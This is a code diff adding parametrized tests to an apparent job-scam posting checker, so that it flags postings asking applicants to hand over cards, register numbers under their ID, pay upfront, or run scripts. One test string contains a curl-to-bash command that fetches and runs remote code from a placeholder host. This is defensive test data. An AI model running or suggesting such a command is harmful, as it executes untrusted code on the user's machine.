@@ -8,7 +8,7 @@ from app.domain.checks import MissingPart, Severity, Signal
 from checkers import card_json
 from checkers.check import check
 from checkers.intake.posting_reader import from_fields
-from checkers.rules.demand_reading import EVERY_PART, needed_parts, read_demand
+from checkers.rules.demand_reading import EVERY_PART, asks_applicant, needed_parts, read_demand
 from checkers.rules.normalization import normalise
 
 WHEN = "2026-11-24T09:00:00Z"
@@ -197,3 +197,18 @@ def test_a_secret_is_asked_for_whenever_and_papers_only_in_kinds_that_hand_them_
     assert needed_parts("leave their passport with us", frozenset({MissingPart.PAYER})) == {MissingPart.PAYER}
     assert needed_parts("leave their passport with us", EVERY_PART) == EVERY_PART
     assert needed_parts("upload a report each month", frozenset()) == EVERY_PART
+
+
+@pytest.mark.parametrize(
+    ("words", "asks"),
+    [
+        ("The card and the app stay with the supervisor, who hands you cash on the 5th.", True),
+        ("Every supervisor registers ten numbers under own IC each month.", True),
+        ("Before the call run `curl -s https://x.example/i | bash` so that we see your machine.", True),
+        ("由员工自己先掏钱拿货，月底一起算。", True),
+        ("The card and the PIN stay with you.", False),
+        ("Gift cards are kept by the till.", False),
+    ],
+)
+def test_what_is_lent_run_or_laid_out_is_asked_of_the_applicant(words: str, asks: bool) -> None:
+    assert asks_applicant(normalise(words).text) is asks
